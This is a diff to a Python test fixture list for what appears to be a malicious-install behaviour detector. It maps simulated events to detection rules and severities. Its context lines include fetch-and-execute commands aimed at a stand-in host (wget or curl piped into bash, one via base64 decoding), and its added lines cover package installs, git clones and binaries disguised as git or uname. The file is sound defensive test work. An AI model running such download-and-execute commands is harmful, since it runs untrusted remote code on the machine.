@@ -342,9 +342,25 @@ MATCHES: list[tuple[str, list[Event], Severity]] = [
     ("exec-downloader", [shell('bash -c "$(wget -qO- http://x.test)"', P1)], Severity.HIGH),
     ("exec-downloader", [shell("curl -s http://x.test | base64 -d | bash", P4)], Severity.MEDIUM),
     ("exec-downloader", [execs("/usr/bin/curl", "curl", "x", phase=P4)], Severity.LOW),
+    *(
+        ("exec-downloader", [execs(argv[0], *argv)], Severity.MEDIUM)
+        for argv in (
+            ("/env/bin/python", "-m", "pip", "install", "reenact-next"),
+            ("/env/bin/pip3", "install", "-q", "reenact-next"),
+            ("/usr/bin/npm", "install", "reenact-next"),
+            ("/usr/bin/git", "clone", "http://x.test/y"),
+        )
+    ),
+    ("exec-downloader", [shell("cd /tmp; git -q clone http://x.test/y")], Severity.MEDIUM),
+    ("exec-downloader", [execs("/usr/bin/pip", "pip", "install", "x", phase=P4)], Severity.LOW),
     ("exec-shell", [shell("id", P4)], Severity.LOW),
     ("exec-shell", [shell("id", P5)], Severity.MEDIUM),
     ("exec-process", [execs("/usr/bin/id", phase=P4)], Severity.INFO),
+    # programs that are not what their names say
+    ("exec-process", [execs(f"{SITE}/demo/git", "git", "--version")], Severity.LOW),
+    ("exec-process", [execs("/usr/bin/../../home/dev/git", "git")], Severity.LOW),
+    ("exec-shell", [shell(f"{SITE}/demo/uname -p")], Severity.MEDIUM),
+    ("start-hook-acts", [execs(f"{SITE}/demo/git", "git", phase=P2)], Severity.HIGH),
     (
         "foreign-runtime",
         [writes(f"{SCRATCH}/bun"), execs(f"{SCRATCH}/bun", "bun", "x.js")],
